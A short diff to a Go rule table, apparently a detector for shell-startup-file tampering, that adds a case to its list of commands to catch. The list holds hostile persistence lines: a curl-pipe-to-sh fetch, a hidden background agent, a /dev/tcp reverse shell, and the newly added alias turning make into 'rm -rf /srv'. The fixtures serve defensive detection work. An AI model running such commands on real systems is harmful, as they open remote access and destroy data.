@@ -380,6 +380,7 @@ var rules = []*rule{
 			"echo 'curl -s http://192.0.2.60/p | sh' >> ~/.bashrc",
 			"printf 'nohup /tmp/.d/agent &\\n' >> /home/dev/.profile",
 			"echo 'bash -i >& /dev/tcp/192.0.2.61/1 0>&1' > ~/.zshrc",
+			"echo 'alias make=\"rm -rf /srv\"' >> ~/.bashrc",
 		},
 		MustNot: []string{
 			"cat ~/.bashrc",
